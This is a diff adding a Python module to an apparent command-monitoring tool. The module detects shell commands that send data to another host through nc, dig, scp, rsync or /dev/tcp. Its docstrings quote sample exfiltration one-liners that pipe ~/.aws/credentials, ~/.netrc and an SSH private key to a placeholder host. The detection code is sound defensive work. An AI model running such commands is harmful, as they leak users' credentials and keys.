@@ -1,0 +1,99 @@
+"""What leaves the machine: a `send` effect for every program that hands what it is given to another host (a
+connection opened by `nc`, a DNS query or ping carrying its words, a mail submitted, a copy to `host:path`,
+bash's `/dev/tcp/HOST/PORT`), and the trees a pipeline carries through filters to such a program.
+
+A send is judged by what the same line reads: a file of the home read by a line that sends is how data leaves
+(`cat ~/.aws/credentials | nc host 9`, `dig $(base64 -w0 ~/.netrc).example`, `scp ~/.ssh/id_ed25519 host:`).
+The line's reads are known as effects; which of them reach the send through pipes, substitutions or variables is
+not followed, so a line that both reads a home's file and sends is judged as sending it (later_code.reaches_home).
+"""
+
+from __future__ import annotations
+
+import re
+from typing import Any
+
+from hookd.enrich.effects.ledger import CommandView, Ledger, Place
+from hookd.enrich.effects.options import Parsed
+from hookd.enrich.effects.program import Program
+from hookd.enrich.effects.words import _dynamic
+
+# scp(1)/rsync(1)/sftp(1)'s remote operands: `[user@]host:path` (a colon before any slash), `host::module` (an
+# rsync daemon), and the URL forms `scp://`, `sftp://`, `rsync://`. rclone names its remotes `name:path`
+# (https://rclone.org/docs/#syntax-of-remote-paths). A drive letter (`C:`) is a local path on no system we run on,
+# so it is remote too: an unknown host name is what a colon before any slash means to these programs.
+_REMOTE = re.compile(r"(?:[A-Za-z][A-Za-z0-9+.-]*://)|(?:[^/:]+::?)")
+_SOCKETS = ("/dev/tcp/", "/dev/udp/")  # bash(1), REDIRECTION: a connection opened by the shell itself
+
+
+def remote_word(word: str) -> bool:
+    """`word` names a file on another host, as a remote copy program reads its operands (`u@h:path`, `h:`,
+    `rsync://h/m`); `./a:b`, `/x:y` and `a/b:c` are local (a slash before the colon)."""
+    return bool(word) and _REMOTE.match(word) is not None and not word.startswith(("-", "~"))
+
+
+def _host(word: str) -> str:
+    """The host a remote operand or a network program's operand names (`u@h:path` → `h`)."""
+    if "://" in word:
+        word = word.split("://", 1)[1].split("/", 1)[0]
+    return word.split(":", 1)[0].rpartition("@")[2]
+
+
+def network_sends(ledger: Ledger, program: Program, parsed: Parsed) -> None:
+    """A program that talks to another host and carries what it is given (`nc`, `dig`, `ssh`, `sendmail`): a send
+    to the host its first operand names; not known when a word it carries is made at run time (`dig $(…).x`)."""
+    if not (program.network or program.sends or program.remote_command):
+        return
+    host = next((w for w in parsed.operands if not w.startswith(("-", "+"))), "")  # dig's `+short` is no host
+    built = any(_dynamic(w) for w in parsed.operands)  # what it carries is made when it runs
+    ledger.add("send", None, program.name, host=_host(host), known=bool(host) and not built)
+
+
+def remote_copy(
+    ledger: Ledger, program: Program, operands: list[str], place: Place, name: str, recursive: bool
+) -> bool:
+    """A copy program's remote operands (`scp SRC… HOST:DEST`, `rsync -a HOST:SRC DEST`): the local sources of a
+    copy to another host are read and sent; a remote source is fetched into the local destination. False when no
+    operand is remote (then the copy is a local one, judged as `cp`'s)."""
+    if not program.remote_operands or len(operands) < 2 or not any(remote_word(w) for w in operands):
+        return False
+    *sources, target = operands
+    if remote_word(target):
+        for word in sources:
+            if not remote_word(word):
+                ledger.add("read", place(word), name, recursive=recursive)
+        ledger.add("send", None, name, host=_host(target), known=not _dynamic(target))
+        return True
+    for word in sources:
+        if remote_word(word):
+            ledger.add("fetch", None, name, url=word, known=not _dynamic(word))
+        else:
+            ledger.add("copy", place(word), name, recursive=recursive)
+    fetched = [w for w in sources if remote_word(w)]
+    if not recursive and len(fetched) == 1 and (target in (".", "..") or target.endswith("/")):
+        target = target.rstrip("/") + "/" + fetched[0].rpartition(":")[2].rpartition("/")[2]  # `scp h:x.sh .`
+    effect = ledger.add("write", place(target), name, recursive=recursive)
+    if effect["path"]:
+        ledger.produce(effect["path"], "fetch")
+    return True
+
+
+def socket_redirect(ledger: Ledger, placed: dict[str, Any], name: str) -> None:
+    """`> /dev/tcp/HOST/PORT` (and `/dev/udp`): bash opens a connection and the command's output goes to it."""
+    path = str(placed.get("path") or "")
+    if path.startswith(_SOCKETS):
+        host = path.split("/")[3] if path.count("/") >= 3 else ""
+        ledger.add("send", None, name, host=host, known=bool(host) and not _dynamic(host))
+
+
+def carried_trees(
+    trees: list[dict[str, Any]], effects: list[dict[str, Any]], program: Program | None, view: CommandView
+) -> list[dict[str, Any]]:
+    """The trees a filter hands on: what the command before it wrote to its stdout goes on to the next one
+    (`tar c . | gzip | nc host 9`), unless the command writes a file (`| tar x -C dir`, `> out.tgz`), where it
+    lands instead; `tee` does both. A network program's stdin goes to the host, not its stdout."""
+    if not trees or (program is not None and (program.network or program.remote_command)):
+        return []
+    if view.name == "tee" and not any(">" in str(r.get("op") or "") for r in view.redirects):
+        return trees
+    return [] if any(e["op"] == "write" for e in effects) else trees
